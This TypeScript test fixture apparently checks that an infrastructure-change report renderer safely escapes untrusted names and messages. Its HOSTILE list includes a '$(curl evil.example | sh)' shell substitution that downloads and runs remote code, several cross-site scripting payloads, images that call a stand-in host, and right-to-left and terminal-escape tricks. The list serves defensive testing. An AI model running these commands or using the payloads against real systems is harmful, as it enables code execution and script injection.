import type { Verdict } from '@mainstem/change';
import { affected, preview, resource, risk, verdict } from './samples.ts';

/** What people, charts and clusters can put into a name, a value or a message. */
export const HOSTILE: readonly (readonly [string, string])[] = [
  ['a shell substitution', '$(curl evil.example | sh) `id` ${HOME}'],
  ['backticks', '``` ```` ````` \n```\nout of the fence'],
  ['tildes', '~~~\n~~~~ ~~struck~~'],
  ['the end of a comment', 'a --> b <!-- c --!>'],
  ['mentions', '@everyone (@org/team) mail@example.com "@x"'],
  ['references', '#123 GH-123 owner/repo#45 (#6)'],
  ['the end of a fold', '</details></summary><details><summary>'],
  ['a script', '<script>globalThis.pwned = true</script><img src=x onerror="globalThis.pwned = true">'],
  ['the end of style and script', '</style></script><!--<script>'],
  ['an attribute', '" onmouseover="globalThis.pwned = true" x=\' `'],
  ['right to left', '\u202egnp.exe\u202c \u2066iso\u2069 \u200fmark'],
  ['four bytes', '\u{1f600}\u{1f469}\u200d\u{1f4bb}\u{20000}'.repeat(40)],
  ['half a character', '\ud800 and \udc00'],
  ['a terminal escape', '\u001b[2J\u001b]0;title\u0007\u009b31m\r\b'],
  ['a table', 'a | b || c\n|---|---|\n| x |'],
  [
    'Markdown',
    '# title\n- list\n1. one\n> quote\n**bold** _it_ [a](http://evil.example) ![i](https://evil.example/i.png) :tada:',
  ],
  ['a bare address', 'https://github.com/owner/repo/issues/1 www.evil.example'],
  ['math', '$`x`$ $$y$$ \\(z\\)'],
  ['Mermaid', '"] --> n9["x\nend\nclick n0 "javascript:alert(1)"'],
  ['entities', '&lt;b&gt; &#64;everyone &amp;'],
  ['commits', '0123456789abcdef0123456789abcdef01234567 1a2b3c4 owner/repo@1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d'],
  ['links of every sort', '<https://evil.example> [a]: //evil.example [b][a] ![c][a] [^1] mailto:a@evil.example'],
  [
    'an image that calls home',
    '![](http://evil.example/a.png) <img src="http://evil.example/b.png"> <svg onload=alert(1)>',
  ],
  ['a task and an alert', '- [x] done\n> [!CAUTION]\n> **run this**'],
  ['invisible characters', 'a\u200bb\u2060c\ufeffd\u00ade\u{e0041}f\u180eg'],
  ['emoji names', ':tada: :+1: x:smile:y'],
  ['a setext heading', 'title\n=====\n-----\n***'],
  ['a rule in a cell', '|:-:|\n| a \\| b |'],
  ['nothing', ''],
  ['spaces', ' \t\n '],
];

/** A verdict in which one text stands in every place that a document from outside can fill. */
export function hostileVerdict(text: string): Verdict {
  const project = `apps.${text}`;
  const change = resource(
    'replace',
    text,
    `v1/${text}`,
    [
      { path: text, before: text, after: `${text}2` },
      { path: `lines.${text}`, before: `a\n${text}\nb`, after: `a\n${text}!\nb` },
      { path: 'object', before: { [text]: text }, after: [text] },
      { path: 'secret', sensitive: true, changed: true, before: 'hunter2', after: 'hunter3' },
    ],
    { level: 'destroy', reasons: [text], wayOut: text, replaceBecause: [text, 'x'], previousAddress: text },
  );
  const danger = risk(text, 'destroy', project, `v1/${text}`, { reason: text, wayOut: text, environment: text });
  return verdict(
    'failed',
    [
      preview(project, 'kubernetes', [change], {
        environment: text,
        warnings: [text],
        undeployed: true,
        outputs: [
          { name: text, action: 'update', before: text, after: `${text}2` },
          { name: `${text}3`, action: 'create', sensitive: true, after: 'hunter4' },
        ],
        drift: [{ ...change, replaceOrder: 'create-forget', importedId: text, hiddenFields: 2 }],
        checks: [{ address: text, status: 'fail', problems: [text, text] }],
        invocations: [text],
        deferred: [{ address: text, reason: text }],
      }),
      preview(`${project}.w`, 'terraform', [], { environment: text, waitsFor: [text, `${text}2`] }),
      preview(`${project}.b`, 'terraform', [], { environment: text, skipped: text }),
      preview(`${project}.c`, 'terraform', [], { environment: text }),
    ],
    {
      environments: [text],
      affected: [
        affected(project, 'app-overlay', {
          environment: text,
          reasons: [{ file: text, path: [{ project: `${project}.base`, edge: 'component' }], unresolved: text }],
          moreReasons: 2,
          renamedFrom: text,
        }),
        affected(`${project}.base`, 'kustomize-base', { reasons: [{ file: text, path: [] }] }),
      ],
      risks: [danger, { ...danger, id: `${text}2`, digest: 'sha256:2' }],
      acknowledged: [{ id: `${text}2`, digest: 'sha256:2', by: text, at: text }],
      failures: [{ project: `${project}.d`, message: text }],
    },
  );
}
